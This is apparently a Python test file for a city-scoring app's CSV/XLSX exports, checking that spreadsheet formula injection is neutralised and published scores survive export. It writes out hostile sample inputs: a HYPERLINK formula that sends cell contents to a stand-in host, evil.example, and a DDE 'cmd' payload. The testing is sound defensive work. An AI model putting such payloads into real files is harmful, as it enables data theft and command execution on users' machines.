"""Exports: CSV and XLSX safe from formula injection, chart images through kaleido."""

from __future__ import annotations

import csv
import io
import struct

import openpyxl
import pytest

from smartcity.data import load_dataset
from smartcity.files import export
from smartcity.i18n.catalog import LANGUAGES, translate
from smartcity.model import City
from smartcity.scenario import Scenario
from smartcity.views.charts import radar

DATASET = load_dataset()
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
EVIL_TOWN = City(
    "evil", {"en": HYPERLINK, "kk": "+cmd|' /C calc'!A0", "ru": "@SUM(1+1)"}, "KZ-43", 46.8, 61.7
)
# Table 2 of the paper: SCRI totals out of 35.
PAPER_SCRI = {"Shu": (15, 1), "Shalkar": (12, 2), "Ayagoz": (11, 3)}


def with_evil_town() -> Scenario:
    scenario = Scenario().with_city(EVIL_TOWN)
    for instrument in DATASET.instruments:
        for indicator_id in instrument.indicator_ids:
            scenario = scenario.with_override(("evil", instrument.id, indicator_id), 3)
    return scenario


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_formula_prefixes_are_neutralised(text):
    assert export.neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Shu", "Шалқар", "a=b", "", 3, -2.5, None])
def test_other_values_pass_unchanged(value):
    assert export.neutralise(value) == value


def test_the_csv_neutralises_hyperlink_and_keeps_the_papers_numbers():
    data = export.scores_csv(DATASET, with_evil_town(), "en")
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM so spreadsheets read UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row.values()]
    assert "'" + HYPERLINK in cells
    text_cells = [cell for cell in cells if not _is_number(cell)]
    assert not [cell for cell in text_cells if cell.startswith(export.FORMULA_PREFIXES)]
    scri = {r["City"]: r for r in rows if r["instrument_id"] == "scri" and r["city_id"] != "evil"}
    for city, (total, rank) in PAPER_SCRI.items():
        assert float(scri[city]["Total"]) == total and float(scri[city]["Maximum"]) == 35
        assert float(scri[city]["Readiness (%)"]) == pytest.approx(total / 35 * 100, abs=0.005)  # 2 decimals
        assert int(scri[city]["Rank"]) == rank + 1  # the added town, 3 on every indicator (21 of 35), leads


def test_negative_changes_stay_numbers_in_the_csv():
    lowered = Scenario().with_override(("shu", "scri", "digital_infrastructure"), 1)
    rows = list(csv.DictReader(io.StringIO(export.scores_csv(DATASET, lowered, "en").decode("utf-8-sig"))))
    shu = next(r for r in rows if r["city_id"] == "shu" and r["instrument_id"] == "scri")
    assert float(shu["Change (points)"]) == -2.86  # 2 -> 1 of 35 points, to 2 decimals


def test_the_xlsx_holds_text_not_formulas_and_cyrillic_names():
    town = City("nul", {"en": "Bad\x00name\x1f", "kk": "Бад"}, "KZ-43", 46.8, 61.7)
    scenario = with_evil_town().with_city(town)
    scenario = scenario.with_override(("nul", "scri", "digital_infrastructure"), 2)
    book = openpyxl.load_workbook(io.BytesIO(export.scores_xlsx(DATASET, scenario, "kk")))
    scores_sheet, indicators_sheet = (
        translate(f"export.sheet.{name}", "kk") for name in ("scores", "indicators")
    )
    assert book.sheetnames == [scores_sheet, indicators_sheet]
    values = [cell for row in book[scores_sheet].iter_rows() for cell in row]
    texts = {cell.value for cell in values if isinstance(cell.value, str)}
    assert {"Шу", "Аягөз", "Шалқар"} <= texts
    assert "'+cmd|' /C calc'!A0" in texts
    assert all(cell.data_type != "f" for cell in values)
    names = {cell.value for row in book[indicators_sheet].iter_rows() for cell in row}
    assert "Бад" in names
    russian = openpyxl.load_workbook(io.BytesIO(export.scores_xlsx(DATASET, Scenario(), "ru")))
    assert russian.sheetnames == ["Оценки", "Значения показателей"]


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_sheet_titles_of_every_language_are_names_excel_accepts(language):
    for name in ("scores", "indicators"):
        title = translate(f"export.sheet.{name}", language)
        assert 0 < len(title) <= 31 and not set(title) & set("[]:*?/\\"), title  # Excel's rules


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", data[16:24])


def test_chart_images_render_through_kaleido():
    figure = radar(DATASET, Scenario(), "scri", ("shu", "ayagoz", "shalkar"), "ru").figure
    png, svg = export.figure_image(figure, "png", 640, 480), export.figure_image(figure, "svg", 640, 480)
    assert _png_size(png) == (640, 480)
    text = svg.decode("utf-8")
    assert text.lstrip().startswith("<svg") and "Шалкар" in text and "Аягоз" in text
    with pytest.raises(export.SmartCityError):
        export.figure_images([figure], "gif")
